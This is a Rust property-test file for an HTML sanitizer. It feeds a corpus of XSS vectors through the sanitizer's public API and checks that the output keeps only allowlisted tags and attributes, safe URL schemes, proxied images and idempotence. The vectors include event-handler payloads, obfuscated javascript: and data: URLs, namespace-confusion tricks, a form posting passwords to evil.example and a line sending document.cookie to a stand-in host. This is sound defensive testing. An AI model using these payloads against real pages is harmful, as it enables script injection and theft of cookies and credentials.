//! A second, independent XSS corpus run through the public API only, as property tests.
//!
//! Vectors are grouped by the published classes of attack (event handlers, script-capable URL
//! schemes with entity/whitespace/case tricks, SVG and MathML namespaces, `<base>`,
//! `<meta refresh>`, forms, plugins, `srcset`, CSS, nesting and unclosed tags, comment and
//! CDATA confusion), plus every obfuscated URL crossed with every element that carries one.
//! For each vector, with and without a base URL, the output of `clean` must:
//!
//! - contain only allowlisted elements, each with only its allowlisted attributes (no `on*`);
//! - carry URLs with no scheme but http, https (and mailto, for links);
//! - route every `<img>` through the image policy (`route_images` with a template);
//! - come back unchanged when cleaned again.
//!
//! Elements are found by lol_html, a different parser from the sanitizer's html5ever.

use std::cell::RefCell;

use lol_html::html_content::Element;
use lol_html::{element, rewrite_str, RewriteStrSettings};
use proptest::prelude::*;
use tidings_content::{clean, route_images, ALLOWED_TAGS};
use tidings_model::image::ImagePolicy;

const EVENT_HANDLERS: &[&str] = &[
    r#"<img src="https://i.example/1.png" onload="fetch('//x.example/'+document.cookie)">"#,
    r#"<img src=1 onerror=alert`1`>"#,
    r#"<IMG SRC=# OnErRoR=alert(1)>"#,
    r#"<img src="https://i.example/1.png"	onerror	=	alert(1)>"#,
    r#"<img src="https://i.example/1.png" onerror='alert(1)'//>"#,
    r#"<img src="https://i.example/1.png" x=" " onerror=alert(1)>"#,
    r#"<div onpointerdown=alert(1) onpointerup=alert(2)>press</div>"#,
    r#"<p onanimationstart=alert(1) class="spin">spin</p>"#,
    r#"<section ontransitionend=alert(1)>t</section>"#,
    r#"<span onbeforecopy=alert(1) contenteditable>copy me</span>"#,
    r#"<table onresize=alert(1)><tr><td onmouseenter=alert(2)>cell</td></tr></table>"#,
    r#"<h2 onauxclick=alert(1)>heading</h2>"#,
    r#"<blockquote onwheel=alert(1)>wheel</blockquote>"#,
    r#"<details ontoggle=alert(1) open><summary onclick=alert(2)>s</summary>d</details>"#,
    r#"<a href="https://ok.example/" onmouseover="alert(1)">hover</a>"#,
    r#"<li onfocusin=alert(1) tabindex=0>focus</li>"#,
    r#"<figure onscroll=alert(1)><figcaption onselect=alert(2)>cap</figcaption></figure>"#,
    r#"<body onpageshow=alert(1)><p>page</p></body>"#,
    r#"<frameset onload=alert(1)>"#,
    r#"<input autofocus onfocus=alert(1)>"#,
    r#"<keygen autofocus onfocus=alert(1)>"#,
    r#"<video><source onerror="alert(1)"></video>"#,
    r#"<style onload=alert(1)></style>"#,
    r#"<img src="https://i.example/1.png" ONLOAD=alert(1) OnLoad=alert(2)>"#,
    r#"<p/onclick=alert(1)>slash-separated</p>"#,
];

const URL_TRICKS: &[&str] = &[
    r#"<a href="javascript://%0aalert(1)">comment-newline</a>"#,
    r#"<a href="javascript:void(0)" data-x=1>void</a>"#,
    r#"<a href=" &#14; javascript:alert(1)">ctl-prefix</a>"#,
    r#"<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">named entities</a>"#,
    r#"<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a&#x61&#x6c&#x65&#x72&#x74&#x28&#x31&#x29">hex no semicolons</a>"#,
    r#"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded decimal</a>"#,
    r#"<a href="java&Tab;script:alert(1)">Tab entity</a>"#,
    r#"<a href="javascript&#58;alert(1)">colon entity</a>"#,
    r#"<a href="\x01javascript:alert(1)">escaped-looking</a>"#,
    r#"<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">data html</a>"#,
    r#"<a href="DATA:text/html,<script>alert(1)</script>">DATA upper</a>"#,
    r#"<a href="vbscript&colon;msgbox(1)">vbscript entity</a>"#,
    r#"<a href="livescript:alert(1)">livescript</a>"#,
    r#"<a href="blob:https://evil.example/uuid">blob</a>"#,
    r#"<a href="filesystem:https://evil.example/temporary/x">filesystem</a>"#,
    r#"<a href="jar:https://evil.example/x.jar!/">jar</a>"#,
    r#"<a href="ms-its:mhtml:file://C:/x.mht!https://evil.example/">ms-its</a>"#,
    r#"<a href="about:blank">about</a>"#,
    r#"<a href="tel:+861234567">tel</a>"#,
    r#"<a href="//evil.example/x">protocol-relative</a>"#,
    r#"<a href="https:alert(1)">scheme without slashes</a>"#,
    r#"<a href="http://user:pass@evil.example/">credentials</a>"#,
    r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
    r#"<img data-original="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    r#"<img data-lazy-src="javascript:alert(1)">"#,
    r#"<img data-actualsrc=" java	script:alert(1)">"#,
    r#"<a href="mailto:a@example.com" onclick=alert(1)>mail with handler</a>"#,
    r#"<a href="mailto:javascript:alert(1)">mailto trick</a>"#,
    r#"<a href="https://ok.example/&#x22;onmouseover=&#x22;alert(1)">quote in URL</a>"#,
];

const NAMESPACES: &[&str] = &[
    r#"<svg><foreignObject><p onclick=alert(1)>fo</p></foreignObject></svg>"#,
    r#"<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>"#,
    r#"<svg><set attributeName="onmouseover" to="alert(1)"/></svg>"#,
    r#"<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>"#,
    r#"<svg><style>@import url(javascript:alert(1))</style></svg>"#,
    r#"<svg><title><img src=x onerror=alert(1)></title></svg>"#,
    r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    r#"<math><mi xlink:href="javascript:alert(1)">m</mi></math>"#,
    r#"<math><maction actiontype="statusline#https://ok.example/" xlink:href="javascript:alert(1)">click</maction></math>"#,
    r#"<math><mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></mtext></math>"#,
    r#"<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>"#,
    r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
    r#"<svg><desc><table><img src=x onerror=alert(1)></table></desc></svg>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect width=10 height=10 /></a></svg>"#,
    r#"<p>before<svg/onload=alert(1)>after</p>"#,
];

const ACTIVE_ELEMENTS: &[&str] = &[
    r#"<base href="//evil.example/"><a href="/page">relative link</a>"#,
    r#"<base target="_blank" href="javascript:/"><img src="a.png">"#,
    r#"<meta http-equiv="refresh" content="0; url=https://evil.example/">"#,
    r#"<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">"#,
    r#"<meta charset="x-imap4-modified-utf7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-"#,
    r#"<form action="https://evil.example/steal" method=post><input name=pw type=password><input type=submit></form>"#,
    r#"<form id=test></form><button form=test formaction="javascript:alert(1)">X</button>"#,
    r#"<input type=image src="javascript:alert(1)">"#,
    r#"<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"#,
    r#"<embed type="image/svg+xml" src="https://evil.example/x.svg">"#,
    r#"<applet code="Evil.class" codebase="https://evil.example/"></applet>"#,
    r#"<iframe src="data:text/html,<script>alert(1)</script>"></iframe>"#,
    r#"<iframe sandbox="allow-scripts" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>"#,
    r#"<frame src="javascript:alert(1)">"#,
    r#"<portal src="https://evil.example/"></portal>"#,
    r#"<link rel=import href="https://evil.example/x.html">"#,
    r#"<link rel=prefetch href="https://evil.example/track">"#,
    r#"<script type="module">import('//evil.example/x.js')</script>"#,
    r#"<script src="data:,alert(1)"></script>"#,
    r#"<dialog open onclose=alert(1)><p>dialog</p></dialog>"#,
    r#"<canvas id=c></canvas><script>c.getContext('2d')</script>"#,
    r#"<video><track src="https://evil.example/x.vtt"></video>"#,
    r#"<bgsound src="javascript:alert(1)">"#,
    r#"<xss style="behavior: url(x.htc);">custom element</xss>"#,
];

const SRCSET_AND_CSS: &[&str] = &[
    r#"<img src="https://i.example/a.png" srcset="https://evil.example/track.png 2x">"#,
    r#"<img srcset="javascript:alert(1)">"#,
    r#"<picture><source media="(min-width:1px)" srcset="https://evil.example/t.png"><img src="https://i.example/a.png"></picture>"#,
    r#"<img src="https://i.example/a.png" sizes="100vw" srcset="data:image/svg+xml,x 1w">"#,
    r#"<p style="background-image:url(https://evil.example/track.png)">tracked</p>"#,
    r#"<div style="color: red; width: expression(alert(1));">ie</div>"#,
    r#"<div style="xss:expr/**/ession(alert(1))">comment split</div>"#,
    r#"<div style="background:url(&#1;javascript:alert(1))">entity</div>"#,
    r#"<span style="-moz-binding:url(https://evil.example/x.xml#xss)">binding</span>"#,
    r#"<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>"#,
    r#"<style>@import 'https://evil.example/x.css';</style><p>import</p>"#,
    r#"<style>p{background:url("javascript:alert(1)")}</style>"#,
    r#"<div style="\62 ackground:url(javascript:alert(1))">escaped property</div>"#,
    r#"<img src="https://i.example/a.png" style="width:expression(alert(1))">"#,
    r#"<table background="https://evil.example/t.png"><tr><td background="javascript:alert(1)">bg</td></tr></table>"#,
];

const STRUCTURE: &[&str] = &[
    r#"<p>open <b>bold <i>both <u>three"#,
    r#"<div><p><div><p><div><p>deep</div></p></div>"#,
    r#"</p></div></span>stray closers<p>then text"#,
    r#"<a href="https://a.example/">one<a href="https://b.example/">two</a>"#,
    r#"<table><tr><td><script>alert(1)</script></td></tr><img src=x onerror=alert(1)></table>"#,
    r#"<table><caption><div>cap</div></caption><colgroup><col onclick=x></colgroup><tr><td>c</td></tr></table>"#,
    r#"<ul><li>one<li>two<ol><li>nested</ul>"#,
    r#"<p>a<p>b<p>c"#,
    r#"<h1>big<h2>smaller</h1>after</h2>"#,
    r#"<pre>pre <b>bold</pre> after"#,
    r#"<img src="https://i.example/a.png"<p onclick=alert(1)>glued</p>"#,
    r#"<a href="https://ok.example/"href="javascript:alert(1)">duplicate attribute</a>"#,
    r#"<img src="https://i.example/a.png" src="javascript:alert(1)">"#,
    r#"<img src='https://i.example/a.png'onerror='alert(1)'>"#,
    r#"<div title="</div><script>alert(1)</script>">attribute holds markup</div>"#,
    r#"<a title="&quot;><script>alert(1)</script>" href="https://ok.example/">t</a>"#,
    r#"<p title='x" onmouseover="alert(1)'>quote swap</p>"#,
    r#"<scr\0ipt>alert(1)</scr\0ipt>"#,
    "<scr\u{0}ipt>alert(1)</script>",
    "<img src=\"https://i.example/a.png\"\u{0}onerror=alert(1)>",
    r#"<%<img src=x onerror=alert(1)>%>"#,
    r#"<? <img src=x onerror=alert(1)> ?>"#,
    r#"<!DOCTYPE html><html><head><script>alert(1)</script></head><body>doc</body></html>"#,
    r#"<div <img src=x onerror=alert(1)>>nested angle</div>"#,
    r#"<selectedcontent><img src=x onerror=alert(1)></selectedcontent>"#,
];

const COMMENTS_AND_CDATA: &[&str] = &[
    r#"<!--><img src=x onerror=alert(1)>-->"#,
    r#"<!---><img src=x onerror=alert(1)>-->"#,
    r#"<!-- -- --><script>alert(1)</script>"#,
    r#"<!--- ---><img src=x onerror=alert(1)>"#,
    r#"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->visible"#,
    r#"<![if !IE]><img src=x onerror=alert(1)><![endif]>"#,
    r#"<![CDATA[><img src=x onerror=alert(1)>]]>"#,
    r#"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"#,
    r#"<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>"#,
    r#"<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>"#,
    r#"<style><!--</style><img src=x onerror=alert(1)>--></style>"#,
    r#"<textarea><!--</textarea><img src=x onerror=alert(1)>--></textarea>"#,
    r#"<title><!--</title><img src=x onerror=alert(1)>--></title>"#,
    r#"<!-- unterminated comment <img src=x onerror=alert(1)>"#,
    r#"<p>text<!-- hidden -->more</p>"#,
];

/// Script-capable or otherwise forbidden URL spellings, crossed with every URL carrier below.
const BAD_URLS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \t\njavascript:alert(1)",
    "java\u{0}script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "ftp://evil.example/x",
];

/// `{}` is where the URL goes; every carrier is an element that can load or link a URL.
const CARRIERS: &[&str] = &[
    r#"<a href="{}">link</a>"#,
    r#"<img src="{}">"#,
    r#"<img data-src="{}" src="https://i.example/blank.gif">"#,
    r#"<img data-original="{}">"#,
    r#"<blockquote cite="{}">quote</blockquote>"#,
    r#"<q cite="{}">q</q>"#,
    r#"<area href="{}">"#,
    r#"<div background="{}">bg</div>"#,
];

fn corpus() -> Vec<String> {
    let mut v: Vec<String> = [
        EVENT_HANDLERS,
        URL_TRICKS,
        NAMESPACES,
        ACTIVE_ELEMENTS,
        SRCSET_AND_CSS,
        STRUCTURE,
        COMMENTS_AND_CDATA,
    ]
    .concat()
    .into_iter()
    .map(String::from)
    .collect();
    for carrier in CARRIERS {
        for url in BAD_URLS {
            v.push(carrier.replace("{}", url));
        }
    }
    v
}

/// What each allowlisted element may carry after cleaning.
fn attribute_allowed(element: &str, attribute: &str) -> bool {
    let generic = ["class", "title", "lang"];
    let specific: &[&str] = match element {
        "a" => &["href", "rel"],
        "img" => &[
            "src",
            "alt",
            "width",
            "height",
            "referrerpolicy",
            "loading",
            "decoding",
        ],
        "td" | "th" => &["colspan", "rowspan"],
        "ol" => &["start"],
        _ => &[],
    };
    generic.contains(&attribute) || specific.contains(&attribute)
}

struct El {
    name: String,
    attrs: Vec<(String, String)>,
}

fn elements(html: &str) -> Vec<El> {
    let found = RefCell::new(Vec::new());
    let settings = RewriteStrSettings::new()
        .with_strict(false)
        .append_element_content_handler(element!("*", |el: &mut Element| {
            found.borrow_mut().push(El {
                name: el.tag_name(),
                attrs: el
                    .attributes()
                    .iter()
                    .map(|a| (a.name(), decode(&a.value())))
                    .collect(),
            });
            Ok(())
        }));
    rewrite_str(html, settings).expect("clean output parses");
    found.into_inner()
}

/// The entity references the serializer emits in attribute values.
fn decode(value: &str) -> String {
    value
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

const PROXY: &str = "https://img.proxy.example/i?u=";

/// Every property of the module docs; the first broken one, described.
fn violation(input: &str, base: Option<&str>) -> Option<String> {
    output_violation(&clean(input, base).html, base)
}

/// The properties, checked on what `clean` returned.
fn output_violation(html: &str, base: Option<&str>) -> Option<String> {
    for el in elements(html) {
        if !ALLOWED_TAGS.contains(&el.name.as_str()) {
            return Some(format!("element <{}>", el.name));
        }
        for (name, value) in &el.attrs {
            if !attribute_allowed(&el.name, name) || name.starts_with("on") {
                return Some(format!("attribute {name} on <{}>", el.name));
            }
            if name == "href" || name == "src" {
                let lower = value.to_ascii_lowercase();
                let ok = lower.starts_with("http://")
                    || lower.starts_with("https://")
                    || (name == "href" && lower.starts_with("mailto:"));
                if !ok {
                    return Some(format!("{name}={value:?} on <{}>", el.name));
                }
            }
        }
    }
    // A script element the independent parser somehow missed would still show as text.
    if html.to_ascii_lowercase().contains("<script") {
        return Some(format!("raw <script in {html:?}"));
    }
    let routed = route_images(
        html,
        &ImagePolicy::Template(format!("{PROXY}{{url_encoded}}")),
    );
    for img in elements(&routed).iter().filter(|e| e.name == "img") {
        let src = img.attrs.iter().find(|(n, _)| n == "src").map(|(_, v)| v);
        if !src.is_some_and(|s| s.starts_with(PROXY)) {
            return Some(format!("img not routed: {src:?} in {routed:?}"));
        }
    }
    let again = clean(html, base);
    if again.html != html {
        return Some(format!("not idempotent: {html:?} → {:?}", again.html));
    }
    None
}

const BASES: [Option<&str>; 2] = [None, Some("https://news.example.cn/channel/7/page.html")];

#[test]
fn the_corpus_has_at_least_150_vectors() {
    let c = corpus();
    assert!(c.len() >= 150, "{}", c.len());
    let mut unique = c.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), c.len(), "no vector twice");
}

#[test]
fn every_vector_is_neutralised_routed_and_stable() {
    let mut failures = Vec::new();
    for v in corpus() {
        for base in BASES {
            if let Some(why) = violation(&v, base) {
                failures.push(format!("{v:?} (base {base:?}): {why}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn safe_neighbours_of_attacks_survive() {
    let out = clean(
        r#"<p>新闻正文<img src="https://i.example/a.png" onerror=alert(1)>第二段<a href="javascript:alert(1)">链接</a></p>"#,
        None,
    );
    assert!(
        out.html.contains("新闻正文") && out.html.contains("第二段"),
        "{}",
        out.html
    );
    assert_eq!(out.images, ["https://i.example/a.png"]);
}

#[test]
fn the_checker_catches_what_it_must() {
    // The properties are only worth something if they can fail: feed the checks raw attacks.
    let raw = |html: &str| elements(html);
    let onerror = raw(r#"<img src="x" onerror="y">"#);
    assert!(onerror[0]
        .attrs
        .iter()
        .any(|(n, _)| !attribute_allowed("img", n)));
    assert!(!ALLOWED_TAGS.contains(&raw("<script></script>")[0].name.as_str()));
    assert!(output_violation(r#"<a href="javascript:x">t</a>"#, None).is_some());
    assert!(
        output_violation(r#"<img src="https://i.example/a.png">"#, None).is_some(),
        "no referrer policy, not routed"
    );
    assert!(output_violation(r#"<p onclick="x">t</p>"#, None).is_some());
    assert!(output_violation(r#"<p class="c">t</p>"#, None).is_none());
}

/// Fragments that, glued together in random order and nesting, make new tag soup.
fn fragment() -> impl Strategy<Value = String> {
    let pieces: Vec<String> = corpus()
        .into_iter()
        .chain(
            [
                "<p>",
                "</p>",
                "<div>",
                "</div>",
                "<table><tr><td>",
                "</td></tr></table>",
                "<ul><li>",
                "<svg>",
                "<math>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<noscript>",
                "</noscript>",
                "<style>",
                "</style>",
                "<a href=\"https://ok.example/\">",
                "</a>",
                "\"",
                "'",
                "<",
                ">",
                "&",
                "正文",
                "<img data-src=\"https://i.example/z.png\">",
            ]
            .map(String::from),
        )
        .collect();
    proptest::sample::select(pieces)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn glued_vectors_stay_safe(parts in proptest::collection::vec(fragment(), 1..6)) {
        let soup = parts.concat();
        for base in BASES {
            let why = violation(&soup, base);
            prop_assert!(why.is_none(), "{:?} (base {:?}): {:?}", soup, base, why);
        }
    }
}
